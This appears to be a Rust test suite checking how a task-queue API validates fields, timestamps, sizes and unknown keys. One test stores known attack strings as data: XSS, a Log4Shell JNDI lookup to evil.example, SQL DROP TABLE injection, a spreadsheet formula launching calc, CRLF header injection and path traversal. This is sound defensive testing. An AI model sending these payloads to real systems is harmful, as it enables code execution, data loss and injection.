//! Fields that are not known, not to be set, or not what they should be.

use serde_json::{Value, json};

use super::peopled;
use crate::app::{TestApp, at};

#[tokio::test]
async fn no_text_holds_the_character_nul() {
    // 37
    let (app, before) = peopled().await;
    let nul = "a\u{0}b";
    for (field, value, pointer, code) in [
        ("title", json!(nul), "/title", "nul"),
        ("description", json!(nul), "/description", "nul"),
        ("payload", json!(nul), "/payload", "json"),
        ("payload", json!({nul: 1}), "/payload", "json"),
        ("payload", json!([{"a": [nul]}]), "/payload", "json"),
        ("metadata", json!({"k": nul}), "/metadata", "json"),
        ("metadata", json!({nul: 1}), "/metadata", "json"),
        ("tags", json!([nul]), "/tags/0", "character"),
    ] {
        let new = json!({"title": "a", field: value});
        app.post("/api/v1/tasks", &new).await.blames(pointer, code);
        app.put("/api/v1/tasks/1", &json!({field: value})).await.blames(pointer, code);
    }
    for (field, code) in [
        ("queue", "name"),
        ("kind", "name"),
        ("unique_key", "control-character"),
        ("concurrency_key", "control-character"),
    ] {
        let new = json!({"title": "a", field: nul});
        app.post("/api/v1/tasks", &new).await.blames(&format!("/{field}"), code);
        let edit = app.put("/api/v1/tasks/1", &json!({field: nul})).await;
        edit.blames(&format!("/{field}"), "immutable");
    }
    // Raw, not escaped.
    let raw = "{\"title\":\"a\u{0}b\"}";
    app.json("POST", "/api/v1/tasks", raw).await.refused(400, "malformed-json");
    assert_eq!(app.everything().await, before);
}

#[tokio::test]
async fn an_unknown_field_is_named() {
    // 39
    let (app, before) = peopled().await;
    for field in ["statsu", "max_attemps", "Title", "title ", "", "a/b", "__proto__", "🦀"] {
        let edit = json!({field: "x"});
        let body = app.put("/api/v1/tasks/1", &edit).await.refused(422, "invalid-input");
        assert_eq!(body["errors"][0]["code"], "unknown-field", "{field}");
        let mut new = json!({"title": "a"});
        new[field] = json!("x");
        let body = app.post("/api/v1/tasks", &new).await.refused(422, "invalid-input");
        assert_eq!(body["errors"][0]["code"], "unknown-field", "{field}");
    }
    for (edit, pointer) in [
        (json!({"statsu": "x"}), "/statsu"),
        (json!({"a/b~c": "x"}), "/a~1b~0c"),
        (json!({"a`b`, c": "x"}), "/a`b`, c"),
        (json!({"retry": {"jiter": 1}}), "/retry/jiter"),
        (json!({"retry": {"retry": 1}}), "/retry/retry"),
    ] {
        app.put("/api/v1/tasks/1", &edit).await.blames(pointer, "unknown-field");
    }
    let new = json!({"title": "a", "max_attemps": 3});
    app.post("/api/v1/tasks", &new).await.blames("/max_attemps", "unknown-field");
    assert_eq!(app.everything().await, before);
}

#[tokio::test]
async fn nobody_creates_what_the_server_decides() {
    // 40
    let (app, before) = peopled().await;
    for (field, value) in [
        ("id", json!(7)),
        ("tenant", json!(1)),
        ("tenant_id", json!(1)),
        ("status", json!("completed")),
        ("pending_reason", json!("ready")),
        ("attempt", json!(0)),
        ("attempts_used", json!(0)),
        ("worker", json!("w")),
        ("lease_expires_at", at(1.0)),
        ("lease_token", json!("0".repeat(32))),
        ("progress", json!({"percent": 1})),
        ("checkpoint", json!(1)),
        ("result", json!(1)),
        ("error_message", json!("x")),
        ("cancel_reason", json!("x")),
        ("created_at", at(0.0)),
        ("updated_at", at(0.0)),
        ("started_at", at(0.0)),
        ("completed_at", at(0.0)),
        ("ended_at", at(0.0)),
        ("version", json!(9)),
    ] {
        let new = json!({"title": "a", field: value});
        let pointer = format!("/{field}");
        app.post("/api/v1/tasks", &new).await.blames(&pointer, "unknown-field");
    }
    for field in ["tenant", "tenant_id", "lease_token", "on_conflict"] {
        let edit = app.put("/api/v1/tasks/1", &json!({field: 1})).await;
        edit.blames(&format!("/{field}"), "unknown-field");
    }
    assert_eq!(app.everything().await, before);
}

#[tokio::test]
async fn a_title_of_a_megabyte_is_refused() {
    // 41; the shorter ones are in `options.rs`.
    let (app, before) = peopled().await;
    let new = json!({"title": "x".repeat(1_000_000)});
    let answer = app.post("/api/v1/tasks", &new).await;
    assert!(answer.text.len() < 1000, "the answer does not repeat it");
    answer.blames("/title", "too-long");
    app.post("/api/v1/tasks", &json!({})).await.blames("/title", "missing");
    assert_eq!(app.everything().await, before);
}

#[tokio::test]
async fn harmful_looking_text_is_kept_as_it_is() {
    // 42
    let app = TestApp::new();
    for text in [
        "<script>alert(1)</script>",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "'; DROP TABLE tasks;--",
        "=cmd|' /C calc'!A0",
        "\u{1b}[31mred\u{1b}[0m",
        "\u{202e}gnp.exe",
        "zero\u{200b}width\u{feff}",
        "a\r\nSet-Cookie: x=y",
        "%s%n%x",
        "..\\..\\etc",
        "\u{fffd}\u{ffff}\u{10ffff}",
        "e\u{301} is not é",
        "\u{7f}\u{1}",
    ] {
        let new = json!({"title": text, "description": text, "payload": {text: text}});
        let task = app.create(&new).await;
        let read = app.task(&task["id"]).await;
        for field in ["title", "description", "payload"] {
            assert_eq!(read[field], new[field], "{field}");
        }
    }
    assert_eq!(app.get("/api/v1/tasks").await.ok(200).as_array().map(Vec::len), Some(14));
}

#[tokio::test]
async fn a_priority_and_a_status_are_one_of_their_words() {
    // 43
    let (app, before) = peopled().await;
    for (field, word) in [("priority", "high"), ("status", "failed")] {
        let pointer = format!("/{field}");
        let bad_words = [word.to_uppercase(), format!(" {word}"), "highest".into(), String::new()];
        for bad in bad_words.map(Value::from).into_iter().chain([json!("1")]) {
            app.put("/api/v1/tasks/1", &json!({field: bad})).await.blames(&pointer, "unknown-word");
        }
        for bad in [json!(-1), json!(2_147_483_648_u64), json!(1.5), json!(true), json!(null)] {
            app.put("/api/v1/tasks/1", &json!({field: bad})).await.blames(&pointer, "type");
        }
        for bad in [json!([]), json!({}), json!([word]), json!({word: null})] {
            app.put("/api/v1/tasks/1", &json!({field: bad})).await.blames(&pointer, "type");
        }
    }
    let new = json!({"title": "a", "priority": "HIGH"});
    app.post("/api/v1/tasks", &new).await.blames("/priority", "unknown-word");
    let new = json!({"title": "a", "priority": null});
    app.post("/api/v1/tasks", &new).await.blames("/priority", "type");
    assert_eq!(app.everything().await, before);
}

#[tokio::test]
async fn an_instant_is_rfc_3339_with_an_offset() {
    // 47: a leap second is refused, as no clock here can show it.
    let (app, before) = peopled().await;
    for bad in [
        json!("tomorrow"),
        json!(""),
        json!("0000-01-01T00:00:00Z"),
        json!("9999-12-31T23:59:59Z"),
        json!("10000-01-01T00:00:00Z"),
        json!("+010000-01-01T00:00:00Z"),
        json!("-292277-01-01T00:00:00Z"),
        json!("2026-12-31T23:59:60Z"),
        json!("2026-06-01T00:00:00"),
        json!("2026-06-01"),
        json!("2026-02-30T00:00:00Z"),
        json!("2026-06-01T24:00:00Z"),
        json!("2026-06-01T00:00:00+0530"),
        json!("2026-06-01T00:00:00+25:00"),
        json!("2026-06-01T00:00:00Z[UTC]"),
        json!("20260601T000000Z"),
        json!("Mon, 01 Jun 2026 00:00:00 GMT"),
        json!("1780272000"),
        json!(1_780_272_000),
        json!(1.5),
        json!(true),
        json!([]),
        json!({}),
    ] {
        for field in ["run_at", "deadline_at", "expires_at"] {
            let pointer = format!("/{field}");
            let new = json!({"title": "a", field: bad});
            app.post("/api/v1/tasks", &new).await.blames(&pointer, "type");
            app.put("/api/v1/tasks/1", &json!({field: bad})).await.blames(&pointer, "type");
        }
    }
    assert_eq!(app.everything().await, before);
}

#[tokio::test]
async fn what_a_task_must_have_cannot_be_cleared() {
    // 51
    let (app, before) = peopled().await;
    for field in [
        "title",
        "priority",
        "status",
        "run_at",
        "delay_seconds",
        "max_attempts",
        "retry",
        "lease_seconds",
        "tags",
        "queue",
        "kind",
        "depends_on",
    ] {
        let edit = app.put("/api/v1/tasks/1", &json!({field: null})).await;
        edit.blames(&format!("/{field}"), "type");
    }
    assert_eq!(app.everything().await, before);
}

#[tokio::test]
async fn an_answer_does_not_repeat_a_megabyte() {
    let (app, before) = peopled().await;
    let huge = "é".repeat(300_000);
    for edit in [
        json!({huge.clone(): 1}),
        json!({"priority": huge}),
        json!({"max_attempts": huge}),
        json!({"run_at": huge}),
        json!({"retry": {"strategy": huge}}),
    ] {
        for answer in
            [app.put("/api/v1/tasks/1", &edit).await, app.post("/api/v1/tasks", &edit).await]
        {
            assert!(answer.text.len() < 5000, "{} bytes", answer.text.len());
            answer.refused(422, "invalid-input");
        }
    }
    assert_eq!(app.everything().await, before);
}
